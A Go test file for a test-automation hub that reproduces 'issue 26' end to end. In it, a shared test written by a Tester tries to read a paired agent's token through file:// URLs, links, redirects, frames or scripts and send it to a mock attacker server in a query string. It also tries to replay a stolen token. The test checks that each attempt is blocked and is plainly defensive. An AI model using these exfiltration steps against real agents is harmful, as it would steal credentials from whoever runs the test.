package api

// The attack of issue 26, end to end with a real agent process: a Tester's
// shared test tries to read the agent's token on the computer of the Admin
// who runs it and send it to the Tester's server; with a stolen token a
// fake agent then tries to take the real agent's place and its secrets.
// README's "Security" section states the rules this checks.

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/testautomation/ta/hub/access"
	"github.com/testautomation/ta/protocol"
)

// catcher is the attacker's server: it records every request it gets and
// serves pages that lead the browser to the token file.
type catcher struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string // guarded by mu: every request's URL
}

func newCatcher(t *testing.T, tokenURL string) *catcher {
	c := &catcher{}
	c.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.mu.Lock()
		c.seen = append(c.seen, r.URL.String())
		c.mu.Unlock()
		switch r.URL.Path {
		case "/link.html":
			w.Header().Set("Content-Type", "text/html")
			_, _ = w.Write([]byte(`<title>Link</title><a id="go" href="` + tokenURL + `">notes</a>`))
		case "/redirect":
			http.Redirect(w, r, tokenURL, http.StatusFound)
		case "/frame.html":
			w.Header().Set("Content-Type", "text/html")
			_, _ = w.Write([]byte(`<title>Frame</title><iframe id="f" src="` + tokenURL + `"></iframe>`))
		default:
			w.Header().Set("Content-Type", "text/html")
			_, _ = w.Write([]byte(`<title>Blank</title><p>nothing here</p>`))
		}
	}))
	t.Cleanup(c.Close)
	return c
}

// leaked reports any request that carried part of the token.
func (c *catcher) leaked(token string) []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	var out []string
	for _, u := range c.seen {
		if strings.Contains(u, token[:12]) || strings.Contains(u, "token") {
			out = append(out, u)
		}
	}
	return out
}

// readToken reads the token the real agent saved after pairing.
func readToken(t *testing.T, file string) string {
	t.Helper()
	re := regexp.MustCompile(`"token"\s*:\s*"([^"]+)"`)
	for range 200 {
		if data, err := os.ReadFile(file); err == nil {
			if m := re.FindSubmatch(data); m != nil {
				return string(m[1])
			}
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("the agent saved no token in %s", file)
	return ""
}

func TestAttackOnTheRunnersComputer(t *testing.T) {
	h := newHarness(t)
	o := h.org(t)
	admin, tester := o.members[access.Admin], o.members[access.Tester]
	dir := t.TempDir()
	_, codes := startAgentProcess(t, h.srv.URL, dir)
	select {
	case code := <-codes:
		admin.do("POST", "/api/agent/pair/"+code, nil).want(t, 201)
	case <-time.After(30 * time.Second):
		t.Fatal("the agent printed no pairing code")
	}
	tokenFile := filepath.Join(dir, "agent.json")
	token := readToken(t, tokenFile)
	if info, err := os.Stat(tokenFile); err != nil || info.Mode().Perm() != 0o600 {
		t.Fatalf("the token file is not owner-only: %v %v", info.Mode(), err)
	}
	tokenURL := "file://" + tokenFile
	evil := newCatcher(t, tokenURL)
	steal := func(first ...map[string]any) map[string]any {
		steps := append(first,
			map[string]any{"id": "grab", "type": "setVariable", "name": "tok", "target": target(loc("css", "body"))},
			map[string]any{"id": "send", "type": "navigate", "url": evil.URL + "/?d=${tok}"})
		return map[string]any{"dsl": 2, "name": "Harmless", "variables": map[string]string{"u": tokenURL}, "steps": steps}
	}

	// Written literally, every refused scheme is refused at save with the
	// step's path, and nothing is saved.
	for _, u := range []string{tokenURL, "FILE:///etc/passwd", " file:///etc/", "chrome://version", "view-source:" + evil.URL,
		"javascript:alert(1)", "data:text/html,<b>x</b>", "filesystem:" + evil.URL + "/temporary/x", "devtools://devtools/bundled/inspector.html"} {
		r := tester.do("POST", "/api/tests", steal(map[string]any{"id": "open", "type": "navigate", "url": u}), ProjectHeader, o.project).want(t, 422)
		if !strings.Contains(string(r.body), `"steps[0].url"`) {
			t.Errorf("save of navigate %q: %s", u, r.body)
		}
	}
	if n := len(tester.do("GET", "/api/tests", nil, ProjectHeader, o.project).want(t, 200).json()["tests"].([]any)); n != 0 {
		t.Fatalf("%d tests saved", n)
	}

	// Through a variable, a link, a redirect, a frame and a script, saved
	// fine and run by the Admin: the agent blocks each; the step fails
	// saying why and the token goes nowhere.
	ways := map[string][]map[string]any{
		"variable": {{"id": "open", "type": "navigate", "url": "${u}"}},
		"link": {{"id": "open", "type": "navigate", "url": evil.URL + "/link.html"},
			{"id": "follow", "type": "click", "target": target(loc("css", "#go"))}},
		"redirect": {{"id": "open", "type": "navigate", "url": evil.URL + "/redirect"}},
		"frame":    {{"id": "open", "type": "navigate", "url": evil.URL + "/frame.html"}},
		"script": {{"id": "open", "type": "navigate", "url": evil.URL + "/blank"},
			{"id": "jump", "type": "script", "code": "location.href = ${u}"},
			{"id": "settle", "type": "wait", "ms": 500}},
	}
	for name, first := range ways {
		t.Run(name, func(t *testing.T) {
			id := tester.createTest(t, o.project, steal(first...))
			runID := admin.do("POST", "/api/runs", map[string]any{"testId": id}, ProjectHeader, o.project).want(t, 201).str("runId")
			events := admin.sse(t, runID)
			r := admin.do("GET", "/api/runs/"+runID, nil).want(t, 200)
			body := string(r.body)
			if st := r.json()["status"]; st != "failed" {
				t.Errorf("run %s, want failed: %s", st, body)
			}
			all, _ := json.Marshal(events)
			if !strings.Contains(string(all), "only open http:, https: and about:blank") {
				t.Errorf("no step says the URL was refused: %s", all)
			}
			if strings.Contains(body+string(all), token) {
				t.Errorf("the token reached the run's result or events")
			}
			if got := evil.leaked(token); len(got) > 0 {
				t.Errorf("the attacker's server got %v", got)
			}
		})
	}

	// A token stolen anyway: while the real agent is connected and answers
	// pings, a second connection with its token is refused and the real
	// agent keeps its runs.
	if m := h.helloWith(t, token); m.Type != protocol.MsgError || m.ErrorCode != protocol.ErrAgentConnected {
		t.Fatalf("a second connection with a connected agent's token was answered %+v, want a refusal with agent_connected", m)
	}
	id := tester.createTest(t, o.project, map[string]any{"dsl": 2, "name": "Plain", "steps": []map[string]any{
		{"id": "open", "type": "navigate", "url": evil.URL + "/blank"},
		{"id": "title", "type": "assertTitle", "expected": "Blank"}}})
	runID := admin.do("POST", "/api/runs", map[string]any{"testId": id}, ProjectHeader, o.project).want(t, 201).str("runId")
	if r := admin.waitStatus(t, runID, "passed"); num(r["passed"]) != 2 {
		t.Errorf("the real agent's run after the attempt: %v", r)
	}
	agents := admin.do("GET", "/api/agent", nil).want(t, 200)
	if !strings.Contains(string(agents.body), `"refusedAt":"`) {
		t.Errorf("the Agents list does not show the refused attempt: %s", agents.body)
	}
}
